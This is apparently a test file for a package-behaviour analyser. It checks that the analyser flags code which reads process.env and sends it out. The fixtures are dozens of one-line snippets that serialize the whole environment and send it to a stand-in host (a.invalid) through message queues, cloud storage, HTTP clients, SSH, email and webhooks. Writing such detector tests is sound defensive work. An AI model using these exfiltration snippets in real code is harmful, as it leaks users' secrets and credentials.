import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../../test/behave.ts';

/** Ways to send `s`, one each. */
const SENDS = `
const { Kafka } = require('kafkajs'); new Kafka({ brokers: ['a.invalid:1'] }).producer().send({ topic: 'x', messages: [{ value: s }] });
require('amqplib').connect('amqp://a.invalid').then(c => c.createConfirmChannel()).then(c => c.sendToQueue('x', Buffer.from(s)));
require('amqplib/callback_api').connect('amqp://a.invalid', (e, c) => c.createChannel((e, k) => k.publish('x', 'y', Buffer.from(s))));
const { Queue } = require('bullmq'); new Queue('x', { connection: { host: 'a.invalid' } }).add('y', { s });
const { connect } = require('nats'); connect({ servers: 'a.invalid' }).then(c => c.jetstream().publish('x', s));
const { Client } = require('@stomp/stompjs'); new Client({ brokerURL: 'wss://a.invalid' }).publish({ destination: 'x', body: s });
const t = require('@opentelemetry/api').trace.getTracer('x'); t.startActiveSpan('y', span => span.setAttribute('z', s));
const { NodeTracerProvider } = require('@opentelemetry/sdk-trace-node'); const p = new NodeTracerProvider().getTracer('x').startSpan('y'); p.setAttributes({ s });
const w = require('winston'); const l = w.createLogger({ transports: [new w.transports.Http({ host: 'a.invalid' })] }); l.info('x', { s });
const Rollbar = require('rollbar'); new Rollbar({}).error('x', { s });
require('@bugsnag/js').notify(new Error(s));
const { StatsD } = require('hot-shots'); new StatsD({ host: 'a.invalid' }).event('x', s);
const { S3Client } = require('@aws-sdk/client-s3'); const { Upload } = require('@aws-sdk/lib-storage'); new Upload({ client: new S3Client({}), params: { Body: s } }).done();
const AWS = require('aws-sdk'); new AWS.DynamoDB.DocumentClient().put({ Item: { s } });
const { Storage } = require('@google-cloud/storage'); new Storage().bucket('x').file('y').save(s);
const { PubSub } = require('@google-cloud/pubsub'); new PubSub().topic('x').publishMessage({ data: Buffer.from(s) });
const { BlobServiceClient } = require('@azure/storage-blob'); BlobServiceClient.fromConnectionString('x').getContainerClient('y').getBlockBlobClient('z').upload(s, 1);
const { google } = require('googleapis'); google.drive({ version: 'v3' }).files.create({ media: { body: s } });
const { getFirestore } = require('firebase-admin/firestore'); getFirestore().collection('x').doc('y').set({ s });
const c = require('@trpc/client').createTRPCClient({ links: [] }); c.a.b.mutate({ s });
const g = require('@grpc/grpc-js'); const C = g.makeGenericClientConstructor({}, 'x'); new C('a.invalid:1', null).save({ s }, () => {});
const g = require('@grpc/grpc-js'); const p = g.loadPackageDefinition({}); new p.x.Y('a.invalid:1', null).save({ s }, () => {});
const { ApolloClient, HttpLink } = require('@apollo/client'); new ApolloClient({ link: new HttpLink({ uri: 'https://a.invalid' }) }).mutate({ variables: { s } });
const { createClient } = require('urql'); createClient({ url: 'https://a.invalid' }).mutation('q', { s });
const axios = require('axios'); axios.create({ baseURL: 'https://a.invalid', transformRequest: [d => JSON.stringify(process.env)] }).post('/x', {});
require('got-scraping').gotScraping.post('https://a.invalid', { json: { s } });
require('sync-request')('POST', 'https://a.invalid', { json: { s } });
const { HttpClient } = require('@actions/http-client'); new HttpClient('x').postJson('https://a.invalid', { s });
const { request } = require('playwright'); request.newContext().then(c => c.post('https://a.invalid', { data: s }));
require('sendmail')({})({ to: 'a@a.invalid', html: s });
require('@emailjs/nodejs').send('a', 'b', { s });
const { NodeSSH } = require('node-ssh'); const n = new NodeSSH(); n.connect({ host: 'a.invalid' }).then(() => n.execCommand('echo ' + s));
const { Webhook } = require('discord-webhook-node'); new Webhook('https://a.invalid').send(s);
require('twilio')('a', 'b').messages.create({ body: s });
const irc = require('irc'); new irc.Client('a.invalid', 'x').say('#y', s);
require('@actions/github').getOctokit('t').rest.gists.create({ files: { x: { content: s } } });
const { createClient } = require('webdav'); createClient('https://a.invalid').putFileContents('/x', s);
`;

describe('libraries that send', () => {
  for (const code of SENDS.trim().split('\n'))
    it(`are told: ${code}`, () => {
      const { flows } = behaviourOf({ 'index.js': `const s = JSON.stringify(process.env); ${code}` });
      assert.ok(flows.some(({ from, to, as }) => from.kind === 'reads environment' && to.kind === 'connects' && as === 'content'));
    });

  it('a logger that writes to the screen sends nothing', () => {
    const code = `const w = require('winston'); w.createLogger({ transports: [new w.transports.Console()] }).info('x', process.env);`;
    assert.ok(behaviourOf({ 'index.js': code }).effects.every(({ kind }) => kind !== 'connects'));
  });

  it('the environment is the same under the name that std-env has for it', () => {
    const code = `import { env } from 'std-env'; fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ ...env }) });`;
    assert.ok(
      behaviourOf({ 'index.mjs': code, 'package.json': { main: 'index.mjs' } }).flows.some(({ from }) => from.api === 'process.env'),
    );
  });
});
